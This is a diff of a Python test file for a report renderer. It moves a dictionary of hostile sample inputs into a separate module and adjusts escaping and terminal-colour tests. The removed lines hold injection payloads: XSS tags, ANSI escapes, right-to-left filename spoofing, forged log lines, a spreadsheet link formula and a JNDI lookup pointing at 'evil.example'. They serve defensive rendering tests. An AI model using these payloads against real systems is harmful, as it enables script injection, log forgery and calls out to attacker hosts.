@@ -12,46 +12,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
 from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
-from report_samples import FINDING, NOW, REGRESSION, TRACES, change, outcome, proposal, sample
+from report_hostile import HOSTILE, hostile
+from report_samples import NOW, REGRESSION, TRACES, sample
 
 from evalspan.plugin import PluginError
 from evalspan.report import RENDERERS, Report, build, render
 from evalspan.report._text import one_line, visible
-
-HOSTILE = {
-    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "attribute": '" onmouseover="alert(1)" x=\'',
-    "ansi": "\x1b[31mred\x1b]0;title\x07\x9b2J\r\x08",
-    "right_to_left": "user\u202egnp.exe\u2066\u200f",
-    "forged_line": 'fine\n2026-03-01 level=error msg="all is lost"\r\nSet-Cookie: a=b',
-    "formula": '=HYPERLINK("http://evil.example","click")',
-    "markdown": "](http://evil.example) ![x](http://evil.example/x.png) | `code` **bold** # h",
-    "fence": "```\nout of the fence\n`````",
-    "endless": "x" * 1_000_000,
-    "nothing": "\x00\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
-    "template": "{{7*7}} ${jndi:ldap://evil} %s {trace_id}",
-}
-
-
-def hostile(text: str) -> Report:
-    """A report with the text wherever a trace or a person can put one."""
-    return build(
-        {**REGRESSION, "check": text, "slice": json.dumps({text: text}), "old": text,
-         "new": text, "view": text, "reason": text, "id": text},
-        [{**FINDING, "title": text, "countermeasure": text, "prompt_diff": f"@@ -1 +1 @@\n+{text}"}
-        ],
-        outcome(
-            summary=text,
-            accepted=proposal(rationale=text, diff=f"@@ -1 +1 @@\n-{text}\n+{text} more"),
-            rejected=[proposal(reason=text, mutator=text)],
-            better=[change(reason=text, input=text, before=text, after=text, trace_id=text)],
-            errors=[text],
-        ),
-        None,
-        now=NOW,
-        settings=None,
-        revisions={text: text},
-    )  # fmt: skip
 
 
 class Page(HTMLParser):
@@ -149,7 +115,7 @@ def test_any_text_can_be_rendered(text: str) -> None:
 def test_lines_that_are_too_long_are_cut_with_a_marker() -> None:
     assert visible("a" * 3000 + "\nb") == "a" * 2000 + " … [1,000 characters more]\nb"
     assert one_line("a\nb") == "a ⏎ b"
-    assert visible("\x1b[0m\u202e") == "␛[0m[U+202E]"
+    assert visible("\x1b[0m\u202e") == r"\x1b[0m\u202e"
 
 
 def test_the_page_forbids_scripts_and_outside_assets() -> None:
@@ -211,6 +177,15 @@ def test_log_records_have_names_ids_and_traces() -> None:
 
 def attributes(record: LogRecord) -> dict[str, Any]:
     return {each.key: each.value.string_value for each in record.attributes}
+
+
+def test_a_terminal_has_colour_where_it_is_asked_for() -> None:
+    assert "\x1b[" not in str(render(sample(), "terminal"))
+    coloured = str(render(sample(), "terminal", width=60, colour=True))
+    assert "\x1b[32m" in coloured
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", coloured)
+    assert not list(acting(plain))
+    assert max(map(len, plain.splitlines())) <= 60
 
 
 def test_a_renderer_of_the_user_and_an_unknown_one() -> None:
